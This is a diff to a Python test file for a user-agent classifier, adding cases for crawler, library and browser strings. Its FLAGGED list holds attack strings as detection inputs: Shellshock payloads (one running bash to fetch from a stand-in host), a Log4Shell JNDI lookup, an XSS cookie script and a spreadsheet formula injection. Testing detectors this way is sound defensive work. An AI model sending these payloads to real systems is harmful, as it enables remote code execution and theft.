@@ -57,6 +57,29 @@ NAMED = [
     # addresses that are written to be read by people alone, and sentences
     ("Mozilla/5.0 (compatible; quarrybot support [at] crawl [dot] com)", "quarrybot support", None, None),
     ("Quarry Page Walker 6 used by Somebody (ops@crawl.example)", "Quarry Page Walker", "6", "ops@crawl.example"),
+    ("Quarry 'Giant Heap' 2023.05; https://crawl.example", "Quarry", "2023.05", "https://crawl.example"),
+    ("Quarry Page 1.0 beta (+https://crawl.example)", "Quarry Page", "1.0", "https://crawl.example"),
+    # the library, or what that runs on, is not who sends
+    ("okhttp/4.12.0 Quarry/3.0", "Quarry", "3.0", None),
+    ("curl/7.22.0 (i686) libcurl/7.22.0 OpenSSL/1.0.1 zlib/1.2 librtmp/2.3 zstd/1.5", "curl", "7.22.0", None),
+    ("PycURL/7.45 libcurl/8.5.0 OpenSSL/3.0 zlib/1.3 libpsl/0.21 (+libidn2/2.3) libssh2/1.11", "PycURL", "7.45", None),
+    ("python-requests/2.31.0 CPython/3.11 Linux/6.1", "python-requests", "2.31.0", None),
+    (f"Quarry/2.9.1 Ruby/3.2.2p53 ({SITE})", "Quarry", "2.9.1", SITE),
+    ("Quarry HttpClient (Curl)", "Quarry HttpClient", None, None),
+    ("Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/AP2A) Quarry/3.0", "Quarry", "3.0", None),
+    # a comment inside a comment does not take the contact away
+    (
+        f"Mozilla/5.0 (X11; U; Linux; rv:1.9; kind:Quarry (Q 3.1); {SITE}) Gecko/20100401 Firefox/3.0",
+        "Quarry",
+        None,
+        SITE,
+    ),
+    ("Mozilla/5.0 (X11; Linux x86_64) Quarry/2.2", "Quarry", "2.2", None),  # no engine, so no browser
+    ("Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/24.1.0", "jsdom", "24.1.0", None),
+    (f"{CHROME} Cypress/13.6", "Cypress", "13.6", None),
+    ("TidyBot/1.0+build.alpha", "TidyBot", "1.0+build.alpha", None),
+    ("“TidyBot/1.0”", "TidyBot", "1.0", None),
+    ("user_agent=TidyBot/1.0", "TidyBot", "1.0", None),
 ]
 
 
@@ -87,6 +110,12 @@ BROWSERS = [
     "QUARRY-X3/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1",
     f"{CHROME} Accelerated=true",  # "=" is no part of a token (RFC 9110 section 5.6.2)
     "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UQ1A.240105.004)",
+    f"{CHROME} like Googlebot",
+    f"{CHROME} quarry/commit 2014-02-16 6ee2b9e",  # a build, no name
+    "QUARRY_MAUI WAP Browser",
+    "QUARRY.KKT35+ (MAUI/KKT35;BDATE/2013/08/20;WAP Browser/MAUI (HTTPS)) WAP Browser/MAUI Profile/  Q03C1-2.40 en-US",
+    "Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/94.0 Safari/537.36 WebAppManager",
+    "HbbTV/1.5.1 (+DRM; Samsung; SmartTV2021:UAU7000; T-KSU2EDEUC-1402.5; KantSU2e;) Tizen/6.0",
     # phones whose model looks like a robot's name
     *(
         f"Mozilla/5.0 (Linux; Android 9; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0 Safari/537.36"
@@ -106,7 +135,8 @@ def test_browser_is_no_client_of_its_own(user_agent):
 
 
 @pytest.mark.parametrize(
-    "user_agent", [None, "", "  ", "-", "--", "_", '""', '"-"', "Mozilla/5.0", "Mozilla/5.0 (compatible)", "\x1b[0m"]
+    "user_agent",
+    [None, "", "  ", "-", "--", "_", '""', '"-"', "Mozilla/5.0", "Mozilla/5.0 (compatible)", "\x1b[0m", "Mozila/5.0"],
 )
 def test_empty_and_bare_values_are_undeclared_and_automated(user_agent):
     client = identify(user_agent)
@@ -123,6 +153,19 @@ def test_browser_with_a_contact_is_automated_and_reachable_if_nameless(form):
 
 def test_link_of_an_add_on_makes_no_robot():
     assert identify("Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; http://addon.example)").name == BROWSER
+
+
+@pytest.mark.parametrize(
+    "user_agent",
+    [
+        CHROME.replace("Mozilla", "Mozlila"),  # no browser misspells its own name
+        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://crawl.example/bot.html )",
+    ],
+)
+def test_browser_that_gives_itself_away_is_automated(user_agent):
+    client = identify(user_agent)
+
+    assert (client.name, client.token, client.automated) == (UNDECLARED, None, True)
 
 
 FLAGGED = [
@@ -147,6 +190,9 @@ FLAGGED = [
     (f"TidyBot/2.4 <script>alert(document.cookie)</script> (+{SITE})", "TidyBot", {"attack-string"}),
     ("${jndi:ldap://crawl.example/x}", None, {"attack-string"}),
     ("() { :; }; echo ready", None, {"attack-string"}),
+    ("=cmd|' /C calc'!A0", None, {"attack-string"}),
+    ("() { :;}; /bin/bash -c 'fetch http://x.example'", None, {"attack-string"}),
+    ("TidyBot%252F2.4", "TidyBot", {"encoded"}),
     ("TidyBot/2.4 " + "x" * LIMIT, "TidyBot", {"truncated"}),
     ("Mozilla/5.0 (compatible; Googlebot/2.1; +https://rank.example/bot)", "Googlebot", {"foreign-contact"}),
     ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", set()),
